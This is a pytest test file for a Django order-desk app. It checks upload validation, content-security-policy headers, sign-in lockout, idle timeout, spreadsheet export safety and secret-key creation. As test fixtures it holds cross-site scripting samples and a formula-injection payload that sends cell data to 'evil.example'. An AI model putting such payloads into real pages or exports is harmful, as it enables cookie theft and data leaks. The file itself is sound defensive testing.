"""Trust: uploads checked by content and served only as downloads, CSP, sign-in lockout, idle timeout, exports,
the per-checkout secret key."""

import base64
import csv
import datetime
import io

import pytest
import time_machine
from axes.models import AccessAttempt
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from orderdesk.demo import seed_company
from orderdesk.exports import safe_cell, safe_csv_writer, unquote_cell, xlsx_append
from orderdesk.models import CompanySettings
from orderdesk.settings.base import local_secret_key
from tests.factories import UserFactory
from tests.pdf_tools import pdf_images

PASSWORD = "secret-pass-123"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
)
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


# --- uploads -----------------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_logo_upload_is_checked_by_content_and_stored_under_a_random_name(manager_client):
    from django.core.exceptions import ValidationError

    from orderdesk.uploads import validate_image_upload

    seed_company()
    form = manager_client.get(reverse("orderdesk:company-settings")).context["form"]
    data = {name: str(value) for name, value in form.initial.items() if value is not None and name != "logo"}

    refused = manager_client.post(
        reverse("orderdesk:company-settings"), {**data, "logo": SimpleUploadedFile("logo.png", HTML)}
    )
    assert refused.status_code == 400 and not CompanySettings.load().logo
    with pytest.raises(ValidationError):
        validate_image_upload(SimpleUploadedFile("logo.png", HTML))
    with pytest.raises(ValidationError):
        validate_image_upload(SimpleUploadedFile("logo.png", b"%PDF-1.7 a PDF is no logo"))

    company = CompanySettings.load()
    company.logo.save("logo.png", SimpleUploadedFile("logo.png", PNG))
    logo = CompanySettings.load().logo
    assert logo.name.startswith("company/") and logo.name != "company/logo.png" and logo.name.endswith(".png")

    # The logo still reaches the PDFs (through the restricted fetcher, by its stored name).
    pdf = manager_client.get(reverse("orderdesk:company-preview", args=["nl"]))
    assert len(pdf_images(pdf.content)) == 1


@pytest.mark.django_db
def test_uploads_are_never_served_as_public_media(client, settings):
    company = seed_company()
    company.logo.save("logo.png", SimpleUploadedFile("logo.png", PNG))

    assert client.get(settings.MEDIA_URL + company.logo.name).status_code in (302, 404)
    assert client.get(reverse("orderdesk:company-logo")).status_code == 302  # to the login page


@pytest.mark.django_db
def test_the_logo_is_a_download_with_nosniff(assistant_client):
    company = seed_company()
    company.logo.save("logo.png", SimpleUploadedFile("logo.png", PNG))

    response = assistant_client.get(reverse("orderdesk:company-logo"))

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "image/png"


@pytest.mark.django_db
def test_the_settings_form_links_the_logo_through_its_view(manager_client):
    company = seed_company()
    company.logo.save("logo.png", SimpleUploadedFile("logo.png", PNG))

    html = manager_client.get(reverse("orderdesk:company-settings")).content.decode()

    assert f'href="{reverse("orderdesk:company-logo")}"' in html and "/media/" not in html


@pytest.mark.django_db
def test_a_manager_may_allow_another_type_but_never_a_web_page():
    from django.core.exceptions import ValidationError

    from orderdesk.uploads import upload_check

    company = seed_company()
    docx = SimpleUploadedFile("sheet.docx", b"PK\x03\x04 a zip archive")
    with pytest.raises(ValidationError):
        upload_check(docx)

    company.upload_extra_types = "docx, html, svg"
    company.save()
    upload_check(SimpleUploadedFile("sheet.docx", b"PK\x03\x04 a zip archive"))
    for name, content in (("page.html", HTML), ("image.svg", b"<svg onload='alert(1)'/>"),
                          ("sheet.docx", b"  <html><script>alert(1)</script>")):  # fmt: skip
        with pytest.raises(ValidationError):
            upload_check(SimpleUploadedFile(name, content))


# --- Content-Security-Policy ---------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["login", "desk:desk", "customers:company-list", "sales:catalog"])
def test_every_page_carries_a_csp_without_inline_script(assistant_client, name):
    response = assistant_client.get(reverse(name))

    policy = response["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
    assert directives["script-src"] == "'self'" and directives["style-src"] == "'self'"
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
    assert directives["frame-ancestors"] == "'none'" and directives["object-src"] == "'none'"
    html = response.content.decode()
    assert "<script>" not in html and " onchange=" not in html and ' style="' not in html


# --- sign-in lockout and unlock ------------------------------------------------------------------------------------


def _fail(client, username, times):
    for _attempt in range(times):
        response = client.post(reverse("login"), {"username": username, "password": "wrong"})
    return response


@pytest.mark.django_db
def test_a_username_is_locked_out_after_too_many_failures_and_a_manager_unlocks_it(client, manager, settings):
    settings.AXES_FAILURE_LIMIT = 3
    user = UserFactory(username="jan.locked", language="fr")

    assert _fail(client, user.username, 2).status_code == 200  # the form again, with the usual error
    locked = _fail(client, user.username, 1)
    assert locked.status_code == 429
    assert "Te veel mislukte pogingen" in locked.content.decode()  # Dutch, the default
    # Even the right password is refused now.
    assert client.post(reverse("login"), {"username": user.username, "password": PASSWORD}).status_code == 429

    # In the reader's language.
    french = client.post(reverse("login"), {"username": user.username, "password": "x"}, HTTP_ACCEPT_LANGUAGE="fr")
    assert "Trop de tentatives" in french.content.decode()

    # Assistants may not see or unlock; a manager can.
    other = UserFactory(username="an.other", role="Assistant")
    client.force_login(other)
    assert client.get(reverse("orderdesk:sign-in-locks")).status_code == 403
    attempt = AccessAttempt.objects.get(username=user.username)
    assert client.post(reverse("orderdesk:sign-in-unlock", args=[attempt.pk])).status_code == 403
    client.force_login(manager)
    page = client.get(reverse("orderdesk:sign-in-locks")).content.decode()
    assert user.username in page
    client.post(reverse("orderdesk:sign-in-unlock", args=[attempt.pk]))
    assert not AccessAttempt.objects.filter(username=user.username).exists()
    client.logout()

    assert client.post(reverse("login"), {"username": user.username, "password": PASSWORD}).status_code == 302


@pytest.mark.django_db
def test_the_admin_login_is_locked_out_too(client, settings):
    settings.AXES_FAILURE_LIMIT = 2
    UserFactory(username="root", is_staff=True, is_superuser=True)
    for _attempt in range(2):
        response = client.post(reverse("admin:login"), {"username": "root", "password": "wrong"})
    assert response.status_code == 429


@pytest.mark.django_db
def test_password_reset_requests_are_limited(client, settings):
    from django.core.cache import cache

    cache.clear()
    settings.PASSWORD_RESET_LIMIT = 2
    for _request in range(2):
        assert client.post(reverse("password_reset"), {"email": "x@example.be"}).status_code == 302
    refused = client.post(reverse("password_reset"), {"email": "x@example.be"})
    assert refused.status_code == 429
    cache.clear()


# --- idle timeout --------------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_an_idle_session_is_signed_out(client, assistant, settings):
    settings.SESSION_IDLE_MINUTES = 30
    start = datetime.datetime(2026, 10, 5, 9, 0, tzinfo=datetime.UTC)
    assistant_client = client
    with time_machine.travel(start, tick=False):
        client.force_login(assistant)
        assert assistant_client.get(reverse("desk:desk")).status_code == 200
    with time_machine.travel(start + datetime.timedelta(minutes=29), tick=False):
        assert assistant_client.get(reverse("desk:desk")).status_code == 200  # activity keeps it alive
    with time_machine.travel(start + datetime.timedelta(minutes=58), tick=False):
        assert assistant_client.get(reverse("desk:desk")).status_code == 200
    with time_machine.travel(start + datetime.timedelta(minutes=89), tick=False):
        response = assistant_client.get(reverse("desk:desk"))
        assert response.status_code == 302 and response.url.startswith(reverse("login"))
        assert "_auth_user_id" not in assistant_client.session


# --- exports -------------------------------------------------------------------------------------------------------


def test_formula_cells_are_neutralised_and_numbers_stay_numbers():
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    for text in (attack, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
        assert unquote_cell(safe_cell(text)) == text
    for value in (12, 12.5, "-12,50", "+32", "-1.234,5", "Bakkerij Peeters", None):
        assert safe_cell(value) == value

    buffer = io.StringIO()
    safe_csv_writer(buffer, delimiter=";").writerow([attack, -5, "-5"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")) == ["'" + attack, "-5", "-5"]

    book = Workbook()
    xlsx_append(book.active, [attack, 5])
    saved = io.BytesIO()
    book.save(saved)
    row = load_workbook(saved).active[1]
    assert (row[0].data_type, row[0].value, row[0].quotePrefix) == ("s", attack, True)
    assert (row[1].data_type, row[1].value) == ("n", 5)


@pytest.mark.django_db
def test_the_customer_export_neutralises_a_formula_in_a_name(manager_client):
    from tests.factories import CompanyFactory

    CompanyFactory(name='=HYPERLINK("http://evil.example","Click")')

    content = manager_client.get(reverse("customers:company-export")).content.decode("utf-8-sig")

    assert "'=HYPERLINK" in content and ";=HYPERLINK" not in content and not content.startswith("=")


# --- secret key ----------------------------------------------------------------------------------------------------


def test_each_checkout_makes_its_own_secret_key_once(tmp_path):
    path = tmp_path / "secret_key"
    first = local_secret_key(path)

    assert len(first) >= 50 and path.read_text() == first
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    assert local_secret_key(path) == first  # reused on the next start
    assert local_secret_key(tmp_path / "other") != first
